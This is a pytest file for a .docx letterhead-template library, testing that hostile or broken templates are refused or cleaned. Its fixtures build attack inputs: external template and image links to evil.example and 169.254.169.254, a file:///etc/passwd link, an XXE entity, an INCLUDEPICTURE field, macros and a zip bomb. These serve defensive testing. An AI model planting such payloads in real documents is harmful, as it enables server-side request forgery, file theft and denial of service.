"""Templates that are hostile, broken, or hold what is nobody's to send on."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import docx as python_docx
import pytest

from documents.blocks import (
    Document,
    Paragraph,
    Run,
    plain,
)
from documents.docx_file import docx
from documents.letterhead import letterhead
from documents.reading.refusing import Refused
from tests.documents.templates import AT, EVERYTHING, changed, saved, template, texts


def with_link(content, part, kind, target):
    link = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )

    def change(name, kept):
        return kept.replace(b"</Relationships>", link.encode()) if name == part else kept

    return changed(content, change)


def test_a_mark_where_no_document_can_stand_is_refused():
    given = letterhead(template(("Here: {{plenary}} it goes",)), "letterhead.docx")

    with pytest.raises(Refused, match="inside a table, a text box or a sentence"):
        docx(EVERYTHING, AT, given)


def test_the_link_to_the_template_s_own_template_is_left_out():
    given = with_link(
        template(), "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"
    )
    given = with_link(
        given, "word/_rels/document.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"
    )
    made = docx(EVERYTHING, AT, letterhead(given, "letterhead.docx"))

    with ZipFile(BytesIO(made)) as archive:
        assert not any(b"evil.example" in archive.read(name) for name in archive.namelist())


def test_a_link_of_the_letterhead_is_kept():
    given = with_link(template(), "word/_rels/document.xml.rels", "hyperlink", "https://crmsv.org/")

    assert letterhead(given, "letterhead.docx")


def test_a_field_that_fetches_nothing_is_kept():
    given = changed(
        template(),
        lambda name, kept: (
            kept.replace(
                b"<w:body>",
                b'<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
                b'HYPERLINK "https://crmsv.org/include link" </w:instrText></w:r></w:p>',
            )
            if name == "word/document.xml"
            else kept
        ),
    )

    assert letterhead(given, "letterhead.docx")


def test_the_footnotes_and_comments_of_the_template_s_own_text_are_not_sent_on():
    old = docx(Document("en", "Old", "", (Paragraph((Run("Old", note=plain("Old note")),)),)), AT)
    commented = python_docx.Document(BytesIO(old))
    commented.add_comment(commented.paragraphs[0].runs, "An old remark", "Ana")
    made = docx(EVERYTHING, AT, letterhead(saved(commented), "letterhead.docx"))

    with ZipFile(BytesIO(made)) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Old note" not in whole
    assert b"An old remark" not in whole
    assert "1 A note" in texts(made)


def test_a_template_with_footnotes_around_its_mark_keeps_them():
    letter = (
        Paragraph((Run("Dear all", note=plain("As agreed")),)),
        Paragraph(plain("{{plenary}}")),
        Paragraph(plain("Yours")),
    )
    given = letterhead(docx(Document("en", "Letter", "", letter), AT), "letterhead.docx")
    said = texts(docx(EVERYTHING, AT, given))

    assert "Dear all1" in said
    assert {"1 As agreed", "2 A note"} <= set(said)


def bomb():
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b" " * 50_000_000)
    return made.getvalue()


def random_bytes():
    return b"<w:hdr>" + bytes(range(256)) * 10


def with_entity(content):
    def change(name, kept):
        if name == "word/document.xml":
            return (
                b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:1/">]>'
                + kept[kept.find(b"<w:") :]
            )
        return kept

    return changed(content, change)


def with_field(content):
    def change(name, kept):
        if name == "word/document.xml":
            field = (
                b"<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "
                b'"http://evil.example/x.png"</w:instrText></w:r></w:p>'
            )
            return kept.replace(b"<w:body>", b"<w:body>" + field)
        return kept

    return changed(content, change)


def with_macros(content):
    def change(name, kept):
        if name == "[Content_Types].xml":
            return kept.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        return kept

    return changed(content, change)


@pytest.mark.parametrize(
    ("content", "name", "says"),
    [
        (lambda: b"Dear all", "letterhead.docx", "damaged|is called .docx but is plain text"),
        (lambda: b"%PDF-1.7\n", "letterhead.docx", "is called .docx but is a PDF"),
        (lambda: b"%PDF-1.7\n", "letterhead", "is a PDF"),
        (lambda: b"\xd0\xcf\x11\xe0" + b"x" * 99, "letterhead.doc", "is an old Word"),
        (lambda: template()[:3000], "letterhead.docx", "is damaged"),
        (lambda: b"PK\x03\x04" + b"x" * 21_000_000, "letterhead.docx", "is larger than 20 MB"),
        (bomb, "letterhead.docx", "unfolds into far more"),
        (lambda: with_macros(template()), "letterhead.docm", "holds macros"),
        (lambda: with_entity(template()), "letterhead.docx", "declares entities"),
        (lambda: with_field(template()), "letterhead.docx", "fetches something from outside"),
        (
            lambda: with_link(
                template(), "word/_rels/document.xml.rels", "image", "http://169.254.169.254/x.png"
            ),
            "letterhead.docx",
            r"loads something from outside it \(http://169.254.169.254/x.png\)",
        ),
        (
            lambda: with_link(
                template(), "word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"
            ),
            "letterhead.docx",
            "loads something from outside",
        ),
        (
            lambda: with_link(
                template(), "word/_rels/document.xml.rels", "oleObject", "http://evil.example/x"
            ),
            "letterhead.docx",
            "holds an embedded object",
        ),
        (
            lambda: changed(template(), lambda n, c: None if n == "word/styles.xml" else c),
            "letterhead.docx",
            "is damaged",
        ),
        (
            lambda: changed(
                template(),
                lambda n, c: c + bytes(100) if n != "word/header1.xml" else random_bytes(),
            ),
            "letterhead.docx",
            "is damaged|unfolds",
        ),
        (
            lambda: changed(template(), lambda n, c: None if n == "word/document.xml" else c),
            "letterhead.docx",
            "is damaged",
        ),
    ],
)  # fmt: skip
def test_a_hostile_or_broken_template_is_refused_in_a_sentence(content, name, says):
    with pytest.raises(Refused, match=says) as refused:
        letterhead(content(), name)

    assert refused.value.instead.endswith(".")
